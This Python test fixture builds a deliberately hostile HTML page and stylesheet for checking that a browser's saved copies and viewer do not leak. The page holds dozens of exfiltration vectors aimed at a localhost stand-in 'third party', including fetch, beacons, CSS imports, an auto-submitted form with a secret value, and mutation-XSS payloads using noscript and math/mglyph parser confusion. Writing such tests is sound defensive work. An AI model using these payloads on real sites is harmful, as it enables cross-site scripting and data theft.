"""A page that tries every way out of a saved copy or the viewer, for the Browser tests.

Each way leaks to a path of the "third party" (``localhost``) that names itself
(``/leak-fetch``, ``/leak-meta-refresh``...), so a test that sees one knows which.
"""

from __future__ import annotations

from browser_site import Server, png

# Every way out the issue lists; each leaks to a path of the "third party" that names itself.
HOSTILE = """<!doctype html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={third}/leak-meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{third}/leak-base/">
<link rel="prefetch" href="{third}/leak-prefetch">
<link rel="preconnect" href="{third}/">
<link rel="dns-prefetch" href="{third}/">
<link rel="stylesheet" href="{first}/hostile.css">
<style>
@import url("{third}/leak-import.css");
@import "{third}/leak-import-string.css";
.set {{ background-image: image-set("{third}/leak-image-set.png" 1x); width: 4px; height: 4px }}
.esc {{ background: \\75 rl({third}/leak-escaped.png); width: 4px; height: 4px }}
.var {{ --u: "{third}/leak-var.png"; background-image: image-set(var(--u) 1x); width: 4px; height: 4px }}
</style>
<script>
fetch("{third}/leak-fetch");
const x = new XMLHttpRequest(); x.open("GET", "{third}/leak-xhr"); x.send();
try {{ new WebSocket("{ws}/leak-websocket"); }} catch (e) {{}}
navigator.sendBeacon("{third}/leak-beacon", "x");
new Image().src = "{third}/leak-script-image";
const s = document.createElement("script"); s.src = "{third}/leak-script-added.js"; document.head.append(s);
</script>
</head><body>
<img id="kept" src="{first}/img/a.png" srcset="{first}/img/a.png 1x, {third}/leak-srcset.png 2x">
<img src="{first}/img/a.png" onload="fetch('{third}/leak-onload')">
<div class="set"></div><div class="esc"></div><div class="var"></div>
<iframe srcdoc="<img src='{third}/leak-srcdoc-img'><script>fetch('{third}/leak-srcdoc')</script>"></iframe>
<form id="form" action="{third}/leak-form" method="get"><input name="field" value="secret-value"></form>
<script>setTimeout(() => document.getElementById("form").submit(), 50);</script>
<object data="{third}/leak-object"></object>
<embed src="{third}/leak-embed">
<video poster="{third}/leak-poster.png"></video>
<svg width="4" height="4"><use href="{third}/leak-use.svg#a"></use>
  <image href="{third}/leak-svg-image.png" width="4" height="4"></image>
  <rect width="4" height="4" fill="url({third}/leak-fill.svg#p)"></rect></svg>
<a id="link" href="{third}/leak-link" ping="{third}/leak-ping">a link</a>
<a id="script-link" href="javascript:fetch('{third}/leak-javascript-url')">a script link</a>
<div style="background-image: url('{third}/leak-inline-style.png'); width: 4px; height: 4px"></div>
<noscript><img src="{third}/leak-noscript.png"></noscript>
<template shadowrootmode="open"><img src="{third}/leak-shadow.png"></template>
<svg><image width="4" height="4"><set attributeName="href" to="{third}/leak-svg-set.png"/></image></svg>
<noscript><p title="</noscript><img src=x onerror=fetch('{third}/leak-noscript-mxss')>"></p></noscript>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=fetch('{third}/leak-mxss')&gt;">
</body></html>
"""
SHEET = """@import url("{third}/leak-sheet-import.css");
body {{ background: url("{first}/img/b.png") }}
@font-face {{ font-family: F; src: url("{third}/leak-font.woff2") format("woff2") }}
"""


def hostile_site() -> tuple[Server, Server]:
    first, third = Server("127.0.0.1", "127.0.0.1"), Server("127.0.0.1", "localhost")
    first.files = {"/img/a.png": (png(1, 2, 3), "image/png"), "/img/b.png": (png(4, 5, 6), "image/png")}
    return first, third


def finish_hostile(first: Server, third: Server) -> None:
    names = {"first": first.origin, "third": third.origin, "ws": third.origin.replace("http", "ws")}
    first.files["/"] = (HOSTILE.format(**names).encode(), "text/html; charset=utf-8")
    first.files["/hostile.css"] = (SHEET.format(**names).encode(), "text/css")
